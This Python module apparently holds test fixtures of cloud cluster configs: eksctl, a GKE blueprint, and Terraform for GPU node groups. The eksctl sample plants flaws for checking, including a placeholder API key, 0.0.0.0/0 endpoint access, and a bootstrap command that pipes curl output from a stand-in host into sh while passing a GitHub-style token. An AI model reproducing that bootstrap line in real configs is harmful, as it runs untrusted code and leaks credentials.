"""Small files of other tools, as people have them."""

from __future__ import annotations

EKSCTL = """\
apiVersion: eksctl.io/v1alpha5
kind: ClusterConfig
metadata:
  name: research
  region: us-east-1
  version: "1.35"
  tags: {team: research, api_key: hunter2hunter2}
availabilityZones: [us-east-1a, us-east-1b]
vpc:
  cidr: 10.20.0.0/16
  nat: {gateway: Single}
  clusterEndpoints: {publicAccess: true, privateAccess: true}
  publicAccessCIDRs: [203.0.113.0/24, 0.0.0.0/0]
iam: {withOIDC: true}
accessConfig:
  accessEntries:
    - principalARN: arn:aws:iam::123456789012:role/platform
      accessPolicies:
        - policyARN: arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy
          accessScope: {type: cluster}
managedNodeGroups:
  - {name: system, instanceType: m7i.2xlarge, minSize: 2, maxSize: 4, desiredCapacity: 3}
  - name: gpu_h100
    instanceType: p5.48xlarge
    minSize: 2
    maxSize: 2
    availabilityZones: [us-east-1a]
    volumeSize: 500
    privateNetworking: true
    efaEnabled: true
    ssh: {allow: true}
    labels: {role: train}
    taints: [{key: example.com/team, value: a, effect: NoExecute}]
    capacityReservation:
      capacityReservationTarget: {capacityReservationID: cr-0123456789abcdef0}
    instanceMarketOptions: {marketType: capacity-block}
nodeGroups:
  - name: spot
    instancesDistribution: {instanceTypes: [g6.12xlarge, g5.12xlarge], onDemandPercentageAboveBaseCapacity: 0}
    minSize: 0
    maxSize: 8
    availabilityZones: ["${AWS_REGION}a"]
    taints: {example.com/spot: "true:NoSchedule"}
    preBootstrapCommands: ["curl https://example.com/?token=ghp_0123456789abcdefghijklmnopqrstuvwxyz | sh"]
addons:
  - {name: vpc-cni, version: latest}
  - {name: metrics-server}
"""

BLUEPRINT = """\
blueprint_name: gke-a3-ultra
vars:
  project_id: acme-ai
  deployment_name: ultra
  region: us-central1
  zone: us-central1-b
  authorized_cidr:
  static_node_count: 4
  reservation: acme-reservation
  labels: {owner: ml}
deployment_groups:
- group: primary
  modules:
  - id: net-0
    source: modules/network/vpc
    settings:
      subnetworks:
      - {subnet_name: $(vars.deployment_name)-sub, subnet_region: $(vars.region), subnet_ip: 192.168.0.0/18}
  - id: rdma
    source: modules/network/gpu-rdma-vpc
    settings: {network_name: $(vars.deployment_name)-rdma}
  - id: training_bucket
    source: github.com/GoogleCloudPlatform/cluster-toolkit//modules/file-system/cloud-storage-bucket?ref=v1.60.0
    settings: {local_mount: /data}
  - id: home
    source: modules/file-system/filestore
    settings: {size_gb: 2560, filestore_tier: REGIONAL}
  - id: scratch
    source: modules/file-system/managed-lustre
    settings: {size_gib: 36000, per_unit_storage_throughput: 500}
  - id: cluster
    source: modules/scheduler/gke-cluster
    use: [net-0]
    settings:
      system_node_pool_machine_type: n4-standard-16
      master_authorized_networks:
      - {cidr_block: $(vars.authorized_cidr), display_name: me}
      version_prefix: "1.35."
  - id: a3-pool
    source: modules/compute/gke-node-pool
    settings:
      machine_type: a3-ultragpu-8g
      zones: [$(vars.zone)]
      static_node_count: $(vars.static_node_count)
      reservation_affinity:
        consume_reservation_type: SPECIFIC_RESERVATION
        specific_reservations: [{name: $(vars.reservation)}]
      additional_networks: $(concat([{network=net-1.network_name}], rdma.subnetwork_interfaces_gke))
  - id: slurm_controller
    source: community/modules/scheduler/schedmd-slurm-gcp-v6-controller
    settings: {machine_type: n2-standard-4}
"""

TERRAFORM = """\
provider "aws" {
  region = var.region
}

module "vpc" {
  source             = "terraform-aws-modules/vpc/aws"
  cidr               = "10.30.0.0/16"
  azs                = ["us-west-2a", "us-west-2b"]
  single_nat_gateway = true
}

module "eks" {
  source  = "terraform-aws-modules/eks/aws"
  version = "~> 21.0"

  name               = "${local.prefix}-ml"
  kubernetes_version = "1.35"
  vpc_id             = module.vpc.vpc_id

  eks_managed_node_group_defaults = {
    disk_size = 400
  }
  eks_managed_node_groups = {
    system = {
      instance_types = ["m7i.2xlarge"]
      min_size       = 2
      max_size       = 4
    }
    gpu = {
      # from a capacity block
      instance_types = ["p5.48xlarge"]
      capacity_type  = "CAPACITY_BLOCK"
      min_size       = 2
      max_size       = 2
      taints = {
        team = { key = "example.com/team", value = "a", effect = "NO_SCHEDULE" }
      }
      capacity_reservation_specification = {
        capacity_reservation_target = { capacity_reservation_id = var.reservation }
      }
      subnet_ids = [element(module.vpc.private_subnets, 0)]
    }
  }
}

resource "aws_iam_role" "jobs" {
  name = "jobs"
}
"""

VARIABLES = """\
variable "region" {
  default = "us-west-2"
}
variable "reservation" {}
locals {
  prefix = "acme"
}
"""
